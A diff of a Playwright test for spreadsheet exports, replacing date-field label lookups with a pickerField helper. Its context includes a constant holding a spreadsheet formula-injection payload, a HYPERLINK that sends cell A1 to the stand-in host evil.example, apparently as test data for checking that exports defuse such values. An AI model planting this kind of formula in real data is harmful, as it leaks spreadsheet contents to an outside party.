@@ -7,7 +7,7 @@
 import { expect, test } from '@playwright/test';
 import { readFileSync } from 'node:fs';
 import * as XLSX from 'xlsx';
-import { api, typedDay } from './helpers';
+import { api, pickerField, typedDay } from './helpers';
 import { storageStateOf } from './users';
 
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
@@ -60,8 +60,8 @@ test.describe('exports as system admin', () => {
             const today = new Date();
             const start = new Date(today);
             start.setDate(today.getDate() - 3);
-            await page.getByLabel('Start date').fill(typedDay(localDay(start)));
-            await page.getByLabel('End date').fill(typedDay(localDay(today)));
+            await pickerField(page, 'Start date').fill(typedDay(localDay(start)));
+            await pickerField(page, 'End date').fill(typedDay(localDay(today)));
             const download = page.waitForEvent('download');
             await page.getByRole('button', { name: 'Export' }).click();
             const file = await download;
